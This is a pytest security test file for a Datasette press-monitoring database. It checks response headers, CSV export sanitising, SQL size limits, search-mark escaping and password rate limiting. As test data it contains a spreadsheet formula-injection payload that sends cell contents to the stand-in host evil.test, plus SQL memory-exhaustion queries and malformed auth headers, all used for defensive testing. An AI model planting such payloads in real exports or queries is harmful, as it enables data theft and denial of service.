"""Probe: the Datasette side. Headers on every page, CSV without formulas, SQL values capped,
search marks that article text cannot forge, huge ids, and a password mode that cannot be stalled.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import io

import pytest
from datasette_auth_passwords.utils import hash_password

import db
from db.metadata import PASSWORD_ENV
from db.serve import build_datasette
from tests.db.workbench_data import build_database

HOSTILE_TITLE = '=HYPERLINK("http://evil.test/?"&A1;"cliquez")'
HOSTILE_TEXT = (
    "Le marché ⟦ du cloud souverain ⟧ progresse : la formule @SUM(A1:A9) circule, "
    "et le signe ⟧ seul ne ferme rien. Les centres de données se multiplient."
)


@pytest.fixture(scope="module")
def db_path(tmp_path_factory):
    path = build_database(tmp_path_factory.mktemp("sec") / "veille.db")
    database = db.open_db(path)
    article = {
        "source": "hostile",
        "url": "https://hostile.example.test/a",
        "canonical_url": "https://hostile.example.test/a",
        "title": HOSTILE_TITLE,
        "author": "-2+3",
        "published_at": "2024-05-02T10:00:00+02:00",
        "text": HOSTILE_TEXT,
        "lang": "fr",
    }
    db.save_article(database, article, {"entities": [], "roles": []})
    database.close()
    return path


@pytest.fixture(scope="module")
def datasette(db_path):
    return build_datasette(db_path)


def get(ds, path, **kwargs):
    return asyncio.run(ds.client.get(path, **kwargs))


@pytest.mark.parametrize(
    "path",
    ["/", "/veille", "/veille/articles", "/veille/articles.json", "/veille/articles.csv",
     "/-/veille/entity/1", "/-/veille/entity?q=inconnue", "/-/veille/static/veille.css", "/nope"],
)  # fmt: skip
def test_every_page_has_csp_and_frame_options(datasette, path):
    response = get(datasette, path)
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert "object-src 'none'" in response.headers["content-security-policy"]
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"


def test_refused_write_has_the_headers_too(datasette):
    response = asyncio.run(datasette.client.post("/veille/articles", data={}))
    assert response.status_code == 405 and response.headers["x-frame-options"] == "DENY"


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "path",
    ["/veille/articles.csv?_size=max", "/veille/articles.csv?_stream=on", "/veille/articles.csv?_dl=1",
     "/veille.csv?sql=select+title,+author+from+articles",
     "/veille/recherche.csv?q=formule&source="],
)  # fmt: skip
def test_csv_exports_neutralise_formulas(datasette, path):
    response = get(datasette, path)
    assert response.status_code == 200, response.text[:500]
    cells = _csv_cells(response.text)
    assert not [
        c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not c[1:2].isdigit())
    ]
    if "recherche" not in path:
        assert "'" + HOSTILE_TITLE in cells and "'-2+3" in cells


def test_csv_keeps_negative_numbers_and_other_cells(datasette):
    text = get(datasette, "/veille.csv?sql=select+-12.5+as+a,+'x,y'+as+b,+'-'+as+c").text
    assert list(csv.reader(io.StringIO(text))) == [["a", "b", "c"], ["-12.5", "x,y", "'-"]]


@pytest.mark.parametrize(
    "sql",
    ["select length(printf('%.*c', 999999999, 'x')) as n", "select length(format('%999999999d', 1)) as n",
     "select length(printf('%.*c', '999999999', 'x')) as n"],
)  # fmt: skip
def test_huge_printf_is_refused_before_it_runs(datasette, sql):
    response = get(datasette, "/veille.json", params={"sql": sql})
    assert response.status_code == 400
    assert "string or blob too big" in response.json()["error"]


@pytest.mark.parametrize(
    "sql",
    ["select length(zeroblob(999999999)) as n", "select length(replace(hex(zeroblob(5000000)), '0', '000'))"],
)
def test_huge_values_fail_fast_instead_of_eating_memory(datasette, sql):
    response = get(datasette, "/veille.json", params={"sql": sql})
    assert response.status_code == 400
    assert "string or blob too big" in response.json()["error"]


def test_printf_still_formats(datasette):
    sql = "select length(printf('%.*c', 5000000, 'x')) as n, printf('%05.1f|%s|%d', 3.14159, 'a', 7) as f"
    assert get(datasette, "/veille.json", params={"sql": sql}).json()["rows"] == [[5000000, "003.1|a|7"]]


def test_huge_entity_id_is_404_not_500(datasette):
    assert get(datasette, "/-/veille/entity/99999999999999999999999").status_code == 404
    assert get(datasette, "/-/veille/entity/9223372036854775807").status_code == 404


@pytest.mark.parametrize(
    ("word", "shown"),
    [("cloud", "〚 du <mark>cloud</mark> souverain 〛"), ("formule", "<mark>formule</mark> @SUM(A1:A9)")],
)
def test_search_marks_cannot_be_forged_by_the_text(datasette, word, shown):
    page = get(datasette, "/veille/recherche", params={"q": word, "source": ""}).text
    cell = page.split("<tbody>")[1].split("</tbody>")[0]
    assert cell.count("<mark>") == cell.count("</mark>") == 1
    assert shown in cell and "⟦" not in cell and "⟧" not in cell
    rows = get(
        datasette, "/veille/recherche.json", params={"q": word, "source": "", "_shape": "array"}
    ).json()
    assert rows[0]["extrait"].count("⟦") == rows[0]["extrait"].count("⟧") == 1


# password mode --------------------------------------------------------------------------


def basic(user: str, password: str | bytes) -> dict[str, str]:
    raw = password if isinstance(password, bytes) else password.encode()
    return {"authorization": "Basic " + base64.b64encode(user.encode() + b":" + raw).decode()}


@pytest.fixture
def protected(db_path, monkeypatch):
    monkeypatch.setenv(PASSWORD_ENV, "")  # build_datasette sets it; undone after the test
    return build_datasette(db_path, password_hash=hash_password("s3cret"), username="redaction")


@pytest.mark.parametrize(
    "header", ["Basic !!!notbase64", "Basic " + base64.b64encode(b"\xff\xfe:\xe9").decode(), "Bearer x"]
)
def test_malformed_credentials_are_refused_not_500(protected, header):
    response = get(protected, "/", headers={"authorization": header})
    assert response.status_code == 401 and "www-authenticate" in response.headers


def test_repeated_failures_from_one_client_are_rate_limited(protected):
    async def attempts():
        statuses = []
        for _ in range(12):
            statuses.append(
                (await protected.client.get("/", headers=basic("redaction", "wrong"))).status_code
            )
        statuses.append((await protected.client.get("/", headers=basic("redaction", "s3cret"))).status_code)
        return statuses

    statuses = asyncio.run(attempts())
    assert statuses[:10] == [401] * 10
    assert statuses[10:] == [429, 429, 429]  # no more hashing for this client, even the right password


def test_logged_in_reader_is_served_while_wrong_passwords_are_hashed(protected):
    """Wrong passwords are hashed in threads: a reader already logged in does not wait for them."""

    async def race():
        assert (await protected.client.get("/", headers=basic("redaction", "s3cret"))).status_code == 200
        done: list[str] = []

        async def request(name: str, password: str) -> None:
            await protected.client.get("/-/versions.json", headers=basic("redaction", password))
            done.append(name)

        wrong = [asyncio.create_task(request(f"wrong{i}", f"bad{i}")) for i in range(4)]
        await asyncio.sleep(0)  # the wrong ones start first
        await asyncio.gather(request("reader", "s3cret"), *wrong)
        return done

    assert asyncio.run(race())[0] == "reader"


def test_public_read_mode_reserves_sql_to_the_account(db_path, monkeypatch):
    monkeypatch.setenv(PASSWORD_ENV, "")
    ds = build_datasette(
        db_path, password_hash=hash_password("s3cret"), username="redaction", public_read=True
    )
    assert get(ds, "/veille/articles.json").status_code == 200
    assert get(ds, "/-/veille/entity/1").status_code == 200
    assert get(ds, "/veille.json", params={"sql": "select 1"}).status_code == 401
    assert get(ds, "/veille/articles.json", params={"_where": "id > 0"}).status_code == 401
    authed = get(ds, "/veille.json", params={"sql": "select 1"}, headers=basic("redaction", "s3cret"))
    assert authed.status_code == 200
    assert get(ds, "/-/login").status_code == 401
    assert get(ds, "/-/login", headers=basic("redaction", "s3cret")).status_code == 302


@pytest.mark.parametrize("password", ["s3cret", "wrong"])
def test_public_read_refuses_garbage_credentials_with_401(db_path, monkeypatch, password):
    monkeypatch.setenv(PASSWORD_ENV, "")
    ds = build_datasette(
        db_path, password_hash=hash_password("s3cret"), username="redaction", public_read=True
    )
    assert get(ds, "/", headers={"authorization": "Basic !!!"}).status_code == 401
    response = get(ds, "/-/actor.json", headers=basic("redaction", password))
    assert response.status_code == (200 if password == "s3cret" else 401)


def test_public_read_needs_a_password(db_path):
    with pytest.raises(ValueError, match="--public-read needs a password"):
        build_datasette(db_path, public_read=True)


def test_hash_password_refuses_non_ascii(monkeypatch):
    from click.testing import CliRunner

    from veille.cli import main

    result = CliRunner().invoke(main, ["hash-password", "--stdin"], input="sécurité\n")
    assert result.exit_code == 2
    assert (
        result.stderr.strip()
        == "veille: the password must be ASCII (letters without accents, digits, punctuation)"
    )
    assert result.stdout == ""
